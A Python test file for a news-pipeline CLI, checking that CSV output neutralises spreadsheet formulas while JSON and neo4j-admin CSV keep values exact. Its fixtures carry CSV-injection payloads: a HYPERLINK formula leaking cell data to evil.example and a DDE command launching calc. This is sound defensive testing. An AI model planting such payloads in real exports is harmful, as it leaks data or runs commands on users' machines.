"""CSV for spreadsheets neutralises formulas; the neo4j-admin CSV keeps every value exact."""

from __future__ import annotations

import csv
import io
import json

import pytest

HOSTILE_TITLE = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'
HOSTILE_TEXT = "=1+2 Vladimir Putin met Xi Jinping in Beijing on Tuesday. @SUM(A1) Sergey Lavrov visited China on Monday."


@pytest.fixture(scope="module")
def hostile_db(tmp_path_factory) -> str:
    from click.testing import CliRunner

    from pipeline.cli import main

    tmp = tmp_path_factory.mktemp("csv")
    feed = tmp / "evil.jsonl"
    record = {"id": "evil", "title": HOSTILE_TITLE, "published": "2024-03-01", "text": HOSTILE_TEXT,
              "url": "https://evil.example/-1"}  # fmt: skip
    feed.write_text(json.dumps(record) + "\n", encoding="utf-8")
    db = str(tmp / "evil.db")
    result = CliRunner().invoke(main, ["ingest", str(feed), "--db", db, "--quiet"])
    assert result.exit_code == 0, result.output
    return db


def _rows(output: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(output)))


CELLS = ["=1+1", "+1+1", "-1+1", "@SUM(A1)", "\t=1+1", "\r=1+1", "=cmd|' /C calc'!A0", "plain", "-"]


def test_csv_output_neutralises_formulas_the_owasp_way(cli, hostile_db):
    listed = ", ".join(json.dumps(c) for c in CELLS)
    result = cli("query", f"UNWIND [{listed}] AS cell RETURN cell, -5 AS number", "--db", hostile_db, "--format", "csv")
    assert result.exit_code == 0, result.output
    rows = _rows(result.output)
    assert [row[0] for row in rows[1:]] == ["'" + c if c[0] in "=+-@\t\r" else c for c in CELLS]
    assert {row[1] for row in rows[1:]} == {"-5"}, "numbers are numbers, not text to neutralise"


def test_csv_output_of_canned_queries_neutralises_article_text(cli, hostile_db):
    relations = _rows(cli("relations", "Vladimir Putin", "--db", hostile_db, "--format", "csv").output)
    evidence = relations[0].index("evidence")
    assert relations[1][evidence] == "'=1+2 Vladimir Putin met Xi Jinping in Beijing on Tuesday."
    titles = _rows(cli("query", "MATCH (a:Article) RETURN a.title AS title", "--db", hostile_db, "--format", "csv").output)
    assert titles[1] == ["'" + HOSTILE_TITLE]


def test_json_and_table_output_keep_the_exact_text(cli, hostile_db):
    result = cli("query", "MATCH (a:Article) RETURN a.title AS title", "--db", hostile_db, "--format", "json")
    assert json.loads(result.output) == [{"title": HOSTILE_TITLE}]


def test_neo4j_csv_keeps_values_exact_for_neo4j_admin(cli, hostile_db, tmp_path):
    out = tmp_path / "bulk"
    assert cli("export", "--db", hostile_db, "--format", "neo4j-csv", "-o", str(out)).exit_code == 0
    with (out / "nodes_Article.csv").open(encoding="utf-8", newline="") as handle:
        articles = list(csv.DictReader(handle))
    assert [(a["id:ID"], a["title:string"]) for a in articles] == [("evil", HOSTILE_TITLE)]
    with (out / "rels_REPORTS.csv").open(encoding="utf-8", newline="") as handle:
        reports = list(csv.DictReader(handle))
    assert "=1+2 Vladimir Putin met Xi Jinping in Beijing on Tuesday." in {r["sentence:string"] for r in reports}


NON_FINITE = "RETURN 0.0/0.0 AS nan, 1.0/0.0 AS inf, -1.0/0.0 AS ninf, [1.0/0.0, 2.5] AS list, {a: 0.0/0.0} AS map, 1.5 AS x"


def _strict_json(text: str):
    def refuse(constant: str):
        raise AssertionError(f"{constant} is not JSON")

    return json.loads(text, parse_constant=refuse)


def test_query_json_writes_null_for_nan_and_infinity(cli, hostile_db):
    result = cli("query", NON_FINITE, "--db", hostile_db, "--format", "json")
    assert result.exit_code == 0, result.output
    assert _strict_json(result.output) == [{"nan": None, "inf": None, "ninf": None, "list": [None, 2.5],
                                             "map": {"a": None}, "x": 1.5}]  # fmt: skip


def test_query_csv_writes_nan_and_infinity_as_empty_cells(cli, hostile_db):
    rows = _rows(cli("query", NON_FINITE, "--db", hostile_db, "--format", "csv").output)
    assert rows[1] == ["", "", "", "[null, 2.5]", '{"a": null}', "1.5"]
